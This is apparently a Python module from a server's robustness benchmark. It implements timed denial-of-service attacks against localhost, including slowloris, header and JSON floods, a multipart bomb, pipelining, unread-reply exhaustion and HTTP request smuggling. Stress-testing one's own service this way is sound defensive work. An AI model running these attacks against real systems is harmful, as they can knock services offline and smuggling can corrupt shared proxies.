"""The attackers of `bench.hostile`: each bounded in time, against 127.0.0.1 only.

They share the machine with the server, where real ones would have their own. So each runs at the
lowest priority, at a stated pace: the last line that it prints is what it has reached.
"""

import contextlib
import json
import os
import socket
import sys
import time
from collections.abc import Callable

from service.open_files import raise_open_file_limit

HEAD = "Host: 127.0.0.1:{port}\r\n"


class Attacker:
    """What an attack needs: a port, and when it ends."""

    def __init__(self, port: int, seconds: float) -> None:
        self._begin_s = self._next_s = time.monotonic()
        self.port, self._until_s = port, self._begin_s + seconds
        self.head = HEAD.format(port=port).encode()
        self._n_opened = self._n_bytes = 0

    def open(self) -> socket.socket | None:
        """Connect without waiting; None where the system refuses."""
        try:
            connection = socket.create_connection(("127.0.0.1", self.port), timeout=2)
        except OSError:
            return None
        connection.setblocking(False)
        self._n_opened += 1
        return connection

    def send(self, connection: socket.socket, data: bytes) -> int:
        """Send what fits; return how many bytes that was."""
        n_bytes = 0
        with contextlib.suppress(OSError):
            n_bytes = connection.send(data)
        self._n_bytes += n_bytes
        return n_bytes

    def send_all(self, connection: socket.socket, data: bytes) -> None:
        """Send everything. Raises OSError."""
        view = memoryview(data)
        while view:
            n_bytes = connection.send(view)
            self._n_bytes += n_bytes
            view = view[n_bytes:]

    def goes_on(self, pause_s: float) -> bool:
        """Wait until `pause_s` after the last time; return whether there is time left.

        What has taken longer is made up for, up to a second of it.
        """
        now_s = time.monotonic()
        self._next_s = max(self._next_s + pause_s, now_s - 1.0)
        time.sleep(max(0.0, self._next_s - now_s))
        return time.monotonic() < self._until_s

    def reached(self) -> dict[str, float]:
        """Return the connections and the megabytes of each second."""
        seconds = time.monotonic() - self._begin_s
        return {"connections": self._n_opened / seconds, "mb": self._n_bytes / 1e6 / seconds}


def drain(connection: socket.socket) -> bool:
    """Read what is there; return whether the connection is still there."""
    try:
        return bool(connection.recv(1 << 20))
    except BlockingIOError:
        return True
    except OSError:
        return False


def slowloris(attacker: Attacker) -> None:
    """500 heads, a byte a second each; what is closed is opened again."""
    held: list[socket.socket] = []
    while attacker.goes_on(0.1):
        held = [one for one in held[50:] + held[:50] if drain(one)]
        for one in held[:50]:
            attacker.send(one, b"a")
        for _ in range(min(50, 500 - len(held))):
            if (new := attacker.open()) is not None:
                attacker.send(new, b"GET / HTTP/1.1\r\n" + attacker.head + b"X-A: ")
                held.append(new)


def idle(attacker: Attacker) -> None:
    """10,000 connections that send nothing, 100 more every 0.1 s."""
    held: list[socket.socket] = []
    while attacker.goes_on(0.1):
        new = [attacker.open() for _ in range(min(100, 10_000 - len(held)))]
        held += [one for one in new if one is not None]


def _repeat(attacker: Attacker, data: bytes, pause_s: float) -> None:
    """Send something on a new connection each time, and read a little of the reply."""
    while attacker.goes_on(pause_s):
        if (new := attacker.open()) is not None:
            with new:
                new.settimeout(1)
                with contextlib.suppress(OSError):
                    attacker.send_all(new, data)
                    new.recv(4_096)


def header_flood(attacker: Attacker) -> None:
    """20 heads of 1 MB a second."""
    fields = b"".join(b"X-%d: a\r\n" % i for i in range(80_000))
    _repeat(attacker, b"GET / HTTP/1.1\r\n" + attacker.head + fields, 0.05)


def _unread(attacker: Attacker, count: int, data: bytes) -> None:
    held: list[socket.socket] = []
    while attacker.goes_on(0.1):
        if len(held) < count and (new := attacker.open()) is not None:
            attacker.send(new, data)
            held.append(new)


def unread_replies(attacker: Attacker) -> None:
    """10 connections a second that ask for a large reply twenty times and read nothing."""
    _unread(attacker, 200, (b"GET /openapi.json HTTP/1.1\r\n" + attacker.head + b"\r\n") * 20)


def unread_streams(attacker: Attacker) -> None:
    """4 streams of a million characters of which nothing is read."""
    body = json.dumps({"inputs": "The ", "parameters": {"max_new_tokens": 1_000_000}}).encode()
    head = b"POST /generate_stream HTTP/1.1\r\n" + attacker.head
    head += b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
    _unread(attacker, 4, head + body)


def multipart_bomb(attacker: Attacker) -> None:
    """5 uploads of 100,000 parts a second."""
    part = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
    body = part * 100_000 + b"--b--\r\n"
    head = b"POST /admin/models/upload HTTP/1.1\r\n" + attacker.head
    head += b"Content-Type: multipart/form-data; boundary=b\r\n"
    _repeat(attacker, head + b"Content-Length: %d\r\n\r\n" % len(body) + body, 0.2)


def pipelining(attacker: Attacker) -> None:
    """10,000 requests in one piece on one connection, read back; a new one every second."""
    get = b"GET /x HTTP/1.1\r\n" + attacker.head + b"\r\n"
    while True:
        new, data = attacker.open(), get * 10_000
        for _ in range(10):
            if new is not None and data:
                data = data[attacker.send(new, data) :]
                drain(new)
            if not attacker.goes_on(0.1):
                return
        if new is not None:
            new.close()


def smuggling(attacker: Attacker) -> None:
    """100 requests a second with both framings, and one hidden behind it."""
    head = b"POST / HTTP/1.1\r\n" + attacker.head + b"Content-Length: 5\r\n"
    inner = b"GET /smuggled HTTP/1.1\r\n" + attacker.head + b"\r\n"
    _repeat(attacker, head + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner, 0.01)


def json_bomb(attacker: Attacker) -> None:
    """5 bodies of four million numbers a second."""
    body = b'{"inputs": [' + b"1," * 3_900_000 + b"1]}"
    head = b"POST /generate HTTP/1.1\r\n" + attacker.head
    head += b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
    _repeat(attacker, head + body, 0.2)


def nothing(attacker: Attacker) -> None:
    """No attack: what the machine adds by itself."""
    while attacker.goes_on(0.1):
        pass


def spin(attacker: Attacker) -> None:
    """A busy process that leaves the server alone: what taking processor time does."""
    while attacker.goes_on(0.0):
        sum(range(10_000))


CONTROLS: dict[str, Callable[[Attacker], None]] = {"nothing": nothing, "spin": spin}

ATTACKS: dict[str, Callable[[Attacker], None]] = {
    function.__name__: function
    for function in (
        slowloris,
        idle,
        header_flood,
        unread_replies,
        unread_streams,
        multipart_bomb,
        pipelining,
        smuggling,
        json_bomb,
    )
}


def main() -> None:
    """`python -m bench.attacks idle 8000 4` attacks port 8000 of this machine for 4 seconds."""
    name, port, seconds = sys.argv[1:]
    _yield_to_others()
    raise_open_file_limit()
    attacker = Attacker(int(port), float(seconds))
    (CONTROLS | ATTACKS)[name](attacker)
    print(json.dumps(attacker.reached()))


def _yield_to_others() -> None:
    if sys.platform == "linux":  # the bench may run at real-time priority
        os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
    os.nice(19)


if __name__ == "__main__":
    main()
